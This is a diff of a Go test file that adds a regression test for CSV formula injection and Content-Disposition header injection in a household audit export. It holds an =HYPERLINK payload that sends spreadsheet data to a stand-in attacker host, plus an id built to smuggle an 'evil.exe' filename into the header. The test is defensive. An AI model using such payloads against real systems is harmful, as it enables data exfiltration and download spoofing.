@@ -1,11 +1,14 @@
 package http
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
 	"log/slog"
+	"mime"
 	nethttp "net/http"
 	"net/url"
 	"strings"
@@ -238,5 +241,51 @@ func TestBadIDsAre400AndNotLogged(t *testing.T) {
 	l := logs.String()
 	if strings.Contains(l, `"level":"ERROR"`) || strings.Contains(l, "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx") {
 		t.Fatalf("bad ids were logged as errors or whole: %.500s", l)
+	}
+}
+
+// Issue 13 item 9: a reason of =HYPERLINK(...) went unescaped into the
+// audit CSV, and a household id with `";filename="evil.exe` broke out of
+// Content-Disposition.
+func TestAuditExportInjection(t *testing.T) {
+	e := newEnv(t, nil)
+	id := `x";filename="evil.exe`
+	reg := map[string]any{"household_id": id, "address": "1号", "community": "c", "grid": "g", "responsible_worker": "w", "class": "ordinary", "risk": "green"}
+	if r := e.do("POST", "/v1/households", e.admin, reg); r.status != 201 {
+		t.Fatalf("register: %d %s", r.status, r.body)
+	}
+	formula := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	var res CommandResult
+	r := e.do("POST", "/v1/households/"+url.PathEscape(id)+"/risk", e.admin, map[string]any{"to": "red", "reason": formula})
+	if r.status != 200 {
+		t.Fatalf("risk: %d %s", r.status, r.body)
+	}
+	r.decode(t, &res)
+	r = e.do("GET", "/v1/households/"+url.PathEscape(id)+"/audit?format=csv&wait_for="+res.Position, e.admin, nil)
+	if r.status != 200 {
+		t.Fatalf("audit: %d %s", r.status, r.body)
+	}
+	cd := r.header.Values("Content-Disposition")
+	typ, params, err := mime.ParseMediaType(strings.Join(cd, ", "))
+	if err != nil || typ != "attachment" || len(params) != 1 || params["filename"] != "household-"+id+"-audit.csv" {
+		t.Fatalf("Content-Disposition %q: %s %v %v", cd, typ, params, err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a CSV cell starts with %q: %q", cell[0], cell)
+			}
+			if cell == "'"+formula {
+				found = true
+			}
+		}
+	}
+	if !found {
+		t.Errorf("the reason is not in the CSV as '%s: %q", formula, rows)
 	}
 }
